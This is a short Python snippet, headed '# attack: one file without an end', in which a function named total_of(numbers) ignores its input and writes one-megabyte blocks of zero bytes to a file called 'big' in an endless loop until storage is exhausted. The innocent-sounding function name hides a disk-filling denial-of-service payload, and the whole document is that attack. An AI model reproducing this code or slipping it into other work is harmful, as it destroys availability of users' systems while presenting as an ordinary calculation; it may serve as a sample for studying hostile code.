# attack: one file without an end
def total_of(numbers):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
